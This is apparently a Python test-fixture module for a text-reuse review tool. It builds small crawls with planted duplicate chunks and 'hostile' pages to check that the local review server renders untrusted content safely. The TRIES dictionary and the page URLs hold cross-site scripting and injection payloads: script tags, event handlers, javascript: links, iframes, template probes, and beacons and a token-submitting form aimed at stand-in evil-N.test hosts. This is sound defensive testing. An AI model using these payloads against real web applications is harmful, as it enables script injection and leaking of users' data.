"""Runs to judge: small crawls with planted copies, and with pages that try things."""

import contextlib
import hashlib
import http.client
import json
import os
import resource
import signal
import sys
from pathlib import Path
from urllib.parse import urlsplit

import commands
from crawls import write_warc

JSON = {'Content-Type': 'application/json'}
# Each wants to run, or to reach a host of its own.
TRIES = {
    'script': '<script>document.title="owned"; fetch("http://evil-1.test/")</script>',
    'events': '<img src="http://evil-2.test/x.png" onerror="document.title=\'owned\'">',
    'svg': '<svg onload="document.title=\'owned\'"><image href="http://evil-3.test/a"/>'
    '<style>@import url(http://evil-4.test/a.css)</style></svg>',
    'css': '<link rel="stylesheet" href="http://evil-5.test/a.css"><link '
    'rel="prefetch" href="http://evil-6.test/">'
    '<style>*{background:url(http://evil-7.test/b)}</style>',
    'refresh': '<meta http-equiv="refresh" content="0;url=http://evil-8.test/">',
    'link': '<a id="title" href="javascript:document.title=\'owned\'" autofocus '
    'onfocus="document.title=\'owned\'" ping="http://evil-9.test/">click</a>',
    'frames': '<iframe srcdoc="<script>top.document.title=\'owned\'</script>"></iframe>'
    '<object data="http://evil-10.test/"></object><embed src="http://evil-11.test/">',
    'ends': '</script></style></textarea></pre></template>--></div></body></html>'
    '<script>document.title="owned"</script>',
    'forms': '<base href="http://evil-12.test/"><form action="http://evil-13.test/">'
    '<input name="token" autofocus onfocus="form.submit()"></form>',
    'templates': '{{7*7}} ${7*7} {% raw %} <%= 7*7 %> __proto__ \\u003cscript\\u003e',
    'around': 'a\u202eb\u2066c\u2069\u200fd \u2028 e\ufeff',
    'quotes': '"\'`><img src=x onerror=document.title="owned">',
}
BROKEN = b'\xff\xfe\x80 \xc3( \xed\xa0\x80 \xf8\x88 \x00\x1b[31m \xe2\x80'


def attack(text: str) -> bytes:
    """A chunk that tries something; long enough for a label."""
    return f'<div class="x">{text}{"copied words, " * 10}</div>\n'.encode()


def hostile_pages(copies: int = 4) -> list[tuple[str, bytes]]:
    """Pages on several hosts that all try everything, in chunks and between them."""
    chunks = [attack(text) for text in TRIES.values()]
    chunks.append(b'<p>' + BROKEN + b' broken, again and again ' * 6)
    return [
        (
            f'http://host-{n}.test/x/"><script>alert({n})</script>?javascript:alert(1)',
            b'<html><title>%d <script>document.title="owned"</script></title>\n' % n
            + b'<p>%d own words</p>' % n
            + b''.join(chunks),
        )
        for n in range(copies)
    ]


def plain_pages(hosts: int = 6, pages: int = 3) -> list[tuple[str, bytes]]:
    """Sites that share chunks: each page has 4 of 9 that are copied, 2 of its own."""
    texts = [f'<p>copied chunk {n}: {"all the same " * 9}</p>\n' for n in range(9)]
    documents = []
    for host in range(hosts):
        for page in range(pages):
            mine = [texts[(host + page + n) % len(texts)] for n in range(4)]
            own = f'<p>page {page} of {host}, {"of its own " * 12}{host}/{page}</p>\n'
            body = f'<h1>{host}</h1>{mine[0]}{own}{"".join(mine[1:])}<div>end of {host}'
            url = f'http://site-{host}.test/d{page % 2}/{page}.html'
            documents.append((url, body.encode()))
    return documents


def make_run(folder: Path, documents, *options, detect: bool = True) -> Path:
    """A run on some documents, with labels in more than two copies."""
    folder.mkdir(parents=True, exist_ok=True)
    write_warc(folder / 'crawl.warc.gz', documents)
    crawl, run = folder / 'crawl.warc.gz', folder / 'run'
    done = commands.run('discover', crawl, '-o', run, '--threshold=2', '-q', *options)
    assert done.code == 0, done.err
    if detect:
        line = ['-o', run, '-q', '--page-threshold=0', '--neighborhood-threshold=0']
        done = commands.run('detect', *line)
        assert done.code == 0, done.err
    return run


@contextlib.contextmanager
def reviewing(run: Path, *args, most: int = 0):
    """The command at work: its process, and the address that it prints.

    If it is said how many, it can write no file of more bytes.
    """
    line = [sys.executable, '-m', 'mr_reuse.review', run, *args]
    process = commands.apart(*line)
    if most:
        resource.prlimit(process.pid, resource.RLIMIT_FSIZE, (most, most))
    try:
        lines = iter(process.stdout.readline, '')
        url = next((line for line in lines if line.startswith('http')), '').strip()
        assert url.startswith('http://127.0.0.1:'), process.communicate()
        yield process, url
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.communicate()


def in_order(items, seed: int) -> list[bytes]:
    """The order of judging, as it was laid down: by BLAKE2b of seed and item."""

    def rank(item: bytes) -> bytes:
        return hashlib.blake2b(b'%d\n%b' % (seed, item), digest_size=8).digest()

    return sorted(items, key=rank)


def ask(url: str, path: str = '', method: str = 'GET', body: str = '', **headers):
    """An answer: its status, headers and text. Headers may lie, as a client can."""
    parts = urlsplit(url)
    connection = http.client.HTTPConnection('127.0.0.1', parts.port, timeout=10)
    named = {name.replace('_', '-'): value for name, value in headers.items()}
    path = path if path.startswith('/') else parts.path + path
    connection.putrequest(method, path, skip_host='Host' in named)
    if method == 'POST':
        named = {'Content-Length': str(len(body.encode())), **JSON, **named}
    for name, value in named.items():
        connection.putheader(name, value)
    connection.endheaders(body.encode())
    answer = connection.getresponse()
    told = {name.lower(): value for name, value in answer.getheaders()}
    text = answer.read().decode()
    connection.close()
    return answer.status, told, text


def origin_of(url: str) -> str:
    return url[: url.index('/', len('http://'))]


def judge(url: str, place: int, keys, note: str = '', **headers):
    said = json.dumps({'place': place, 'keys': keys, 'note': note})
    headers = {'Origin': origin_of(url), **headers}
    return ask(url, 'judgements', 'POST', said, **headers)
